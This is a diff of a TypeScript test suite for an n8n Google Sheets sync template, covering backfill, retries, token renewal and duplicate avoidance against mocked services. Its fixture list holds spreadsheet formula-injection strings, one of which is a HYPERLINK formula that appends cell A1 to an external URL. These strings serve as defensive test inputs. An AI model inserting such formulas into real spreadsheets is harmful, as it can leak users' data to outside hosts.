@@ -1,11 +1,12 @@
 import type { INodeParameters } from 'n8n-workflow';
 import type { Execution, SavedCredential } from '../../demo/n8nApi';
 import { startSandbox, type Sandbox } from '../../sandbox/server';
+import { sandboxAccount } from '../steps';
 import { startDemo, type RunningDemo } from './demoProcess';
-import { pollOnce } from './pollOnce';
-import { standInForGoogleSheets, type GoogleSheetsStandIn, type Refusal } from './standIns/googleSheets';
-import type { Cell } from './standIns/grid';
-import { startHttpsProxy, type HttpsProxy } from './standIns/httpsProxy';
+import { executionsAfterPoll } from './pollOnce';
+import { mockGoogleSheets, type GoogleSheetsMock, type Rejection } from './mocks/googleSheets';
+import type { Cell } from './mocks/grid';
+import { startHttpsProxy, type HttpsProxy } from './mocks/httpsProxy';
 import { importTemplate } from './template';
 
 const SHEETS = 'n8n-nodes-base.googleSheets';
@@ -14,7 +15,7 @@ const BACKFILL = 'Fill the Sheet';
 const NIGHT = 'Every Night';
 const HEADER = ['id', 'type', 'amount', 'description', 'siteId', 'createdAt'];
 
-/** What a spreadsheet would like to make something else of. */
+/** Texts that a spreadsheet could change into something else. */
 const ODD_DESCRIPTIONS = [
 	'=HYPERLINK("https://example.com/?"&A1;"Click")',
 	'=1+1',
@@ -34,28 +35,24 @@ const ODD_DESCRIPTIONS = [
 ];
 
 let proxy: HttpsProxy;
-let google: GoogleSheetsStandIn;
+let google: GoogleSheetsMock;
 let sandbox: Sandbox;
 let demo: RunningDemo;
 let googleCredential: SavedCredential;
 let credential: SavedCredential;
-/** The template, imported anew for each test. */
+/** The template, imported again for each test. */
 let workflowId: string;
 
 beforeAll(async () => {
 	proxy = await startHttpsProxy();
-	google = await standInForGoogleSheets(proxy, 'Käufe & Nutzung 2026');
+	google = await mockGoogleSheets(proxy, 'Käufe & Nutzung 2026');
 	sandbox = await startSandbox();
 	demo = await startDemo({ env: proxy.env });
 	googleCredential = await demo.api.saveCredential(google.credential);
-	credential = await demo.api.saveCredential({
-		name: 'Account of the sheet',
-		type: 'llmGeneratorApi',
-		data: { apiKey: 'llmgen_sandbox_key', baseUrl: sandbox.baseUrl },
-	});
+	credential = await demo.api.saveCredential(sandboxAccount('Account of the sheet', sandbox));
 });
 afterAll(async () => {
-	// Undefined where it did not start.
+	// Undefined if it did not start.
 	await (demo as RunningDemo | undefined)?.clear();
 	await sandbox.close();
 	await proxy.close();
@@ -66,25 +63,25 @@ beforeEach(async () => {
 	for (const description of ODD_DESCRIPTIONS) sandbox.ledger.book({ description, siteId: null });
 	google.reset();
 	workflowId = await importSync();
-	google.asked.length = 0;
+	google.calls.length = 0;
 });
 afterEach(() => {
 	expect(proxy.unexpected).toEqual([]);
 });
 
 describe('Fill the Sheet', () => {
-	test('writes the whole history into a new, empty sheet; done again, it changes nothing', async () => {
+	test('writes the whole history into a new, empty sheet; a second run changes nothing', async () => {
 		await run(BACKFILL);
 		expect(google.cells).toEqual(history());
 		expect(google.cells).toHaveLength(251);
-		// However many rows: the sheet is read once and written once, after the header row.
-		expect(google.asked).toEqual(['spreadsheets.get', 'values.get', 'values.update', 'values.append']);
+		// For any number of rows: after the header row, the sheet is read once and written once.
+		expect(google.calls).toEqual(['spreadsheets.get', 'values.get', 'values.update', 'values.append']);
 
 		await run(BACKFILL);
 		expect(google.cells).toEqual(history());
 	});
 
-	test('goes by the names of the columns and leaves columns of your own alone', async () => {
+	test('finds columns by their names and does not change other columns', async () => {
 		const header = ['createdAt', 'Checked by', 'id', 'amount', 'description', 'type', 'siteId'];
 		google.reset([header]);
 		await run(BACKFILL);
@@ -98,7 +95,7 @@ describe('Fill the Sheet', () => {
 		expect(own).toEqual(['Checked by', 'Ada', ...Array<null>(248).fill(null), '=TODAY()', null]);
 	});
 
-	test('takes more rows than a new sheet has, and the trigger goes on below them', async () => {
+	test('writes more rows than a new sheet has, and the trigger adds its rows below them', async () => {
 		sandbox.reset({ rows: 2500 });
 		await poll(0);
 		await run(BACKFILL);
@@ -113,7 +110,7 @@ describe('Fill the Sheet', () => {
 });
 
 describe('New Credit Transaction', () => {
-	test('adds what is new below, once, also where Fill the Sheet brings the same rows', async () => {
+	test('adds new rows at the end, once, also if Fill the Sheet writes the same rows', async () => {
 		await poll(0);
 		await run(BACKFILL);
 		for (const description of ODD_DESCRIPTIONS) sandbox.ledger.book({ description, siteId: null });
@@ -128,14 +125,14 @@ describe('New Credit Transaction', () => {
 		expect(google.cells).toEqual(history());
 	});
 
-	test('begins an empty sheet with a header row', async () => {
+	test('writes a header row into an empty sheet', async () => {
 		await poll(0);
 		sandbox.ledger.book();
 		await poll(1);
 		expect(byName(google.cells)).toEqual([HEADER, history().at(-1)]);
 	});
 
-	test('does not write over a row that somebody else adds at the same moment', async () => {
+	test('does not overwrite a row that somebody else adds at the same moment', async () => {
 		google.reset([HEADER]);
 		await poll(0);
 		const { id } = sandbox.ledger.book();
@@ -145,24 +142,24 @@ describe('New Credit Transaction', () => {
 	});
 });
 
-describe('when Google refuses, nothing is lost and nothing is written twice', () => {
-	test.each<[string, Refusal]>([
+describe('if Google rejects a request, no row is lost and no row is written twice', () => {
+	test.each<[string, Rejection]>([
 		['too many requests', { status: 429 }],
 		['not available', { status: 503 }],
-		['not available, though it had written the rows', { status: 503, written: true }],
-	])('%s: it is tried again', async (_what, refusal) => {
+		['not available, although it had written the rows', { status: 503, written: true }],
+	])('%s: n8n tries again', async (_what, rejection) => {
 		google.reset([HEADER]);
-		google.refuseNext(refusal, refusal);
+		google.rejectNext(rejection, rejection);
 		await run(BACKFILL);
 		expect(google.cells).toEqual(history());
 	});
 
-	test('for longer: the execution is listed as failed, and the night brings the rows', async () => {
+	test('for longer: the execution is listed as failed, and the nightly run adds the rows', async () => {
 		const hours = (count: number) => new Date(Date.now() - count * 3_600_000).toISOString();
 		await poll(0);
 		await run(BACKFILL);
 		for (const ago of [47, 23, 2]) sandbox.ledger.book({ createdAt: hours(ago) });
-		google.refuseNext(...Array<Refusal>(5).fill({ status: 503 }));
+		google.rejectNext(...Array<Rejection>(5).fill({ status: 503 }));
 		const [failed] = await poll(1);
 		expect(failed.status).toBe('error');
 		expect(google.cells).toHaveLength(251);
@@ -173,15 +170,15 @@ describe('when Google refuses, nothing is lost and nothing is written twice', ()
 		expect(google.cells).toEqual(history());
 	});
 
-	test('the login has run out: n8n renews it by itself', async () => {
+	test('the login has expired: n8n renews it', async () => {
 		google.expireLogin();
 		await run(BACKFILL);
 		expect(google.cells).toEqual(history());
-		expect(google.asked.filter((call) => call === 'token')).toHaveLength(1);
+		expect(google.calls.filter((call) => call === 'token')).toHaveLength(1);
 	});
 });
 
-test('the night leaves the last hour to the trigger, so that both never write the same row at once', async () => {
+test('the nightly run leaves the last hour to the trigger, so that both never write the same row at the same time', async () => {
 	google.reset([HEADER]);
 	sandbox.ledger.book({ createdAt: new Date(Date.now() - 59 * 60_000).toISOString() });
 	const { id } = sandbox.ledger.book({ createdAt: new Date(Date.now() - 61 * 60_000).toISOString() });
@@ -189,7 +186,7 @@ test('the night leaves the last hour to the trigger, so that both never write th
 	expect(google.cells.at(-1)?.[0]).toBe(id);
 });
 
-/** The ledger as the sheet is to show it. */
+/** The ledger as the sheet must show it. */
 function history(): Cell[][] {
 	const rows = sandbox.ledger.all('oldestFirst').map((row): Cell[] => {
 		const { id, type, amount, description, siteId, createdAt } = row;
@@ -203,7 +200,7 @@ function byName([header, ...rows]: Cell[][]): Cell[][] {
 	return [header, ...rows].map((row) => HEADER.map((name) => row[header.indexOf(name)] ?? null));
 }
 
-/** Imports the template and fills in what it leaves open, picked from the lists that n8n shows. */
+/** Imports the template and fills in its empty fields, chosen from the lists that n8n shows. */
 async function importSync(): Promise<string> {
 	const pick = async (parameter: string, method: string, parameters: INodeParameters = {}) => {
 		const { results } = await demo.api.listSearch({
@@ -229,10 +226,8 @@ async function run(trigger: string): Promise<void> {
 	expect({ status, error }).toEqual({ status: 'success', error: undefined });
 }
 
-/** Lets the trigger look once, and returns its executions, of which there are to be so many by then. */
+/** Makes the trigger poll once, and returns its executions so far: exactly this many. */
 async function poll(executions: number): Promise<Execution[]> {
-	const where = { workflowId, trigger: TRIGGER, path: '/credits/history/api' };
-	const found = await pollOnce({ api: demo.api, sandbox }, where, executions);
-	expect(found).toHaveLength(executions);
-	return found;
+	const path = '/credits/history/api';
+	return executionsAfterPoll({ api: demo.api, sandbox, workflowId, trigger: TRIGGER, path }, executions);
 }
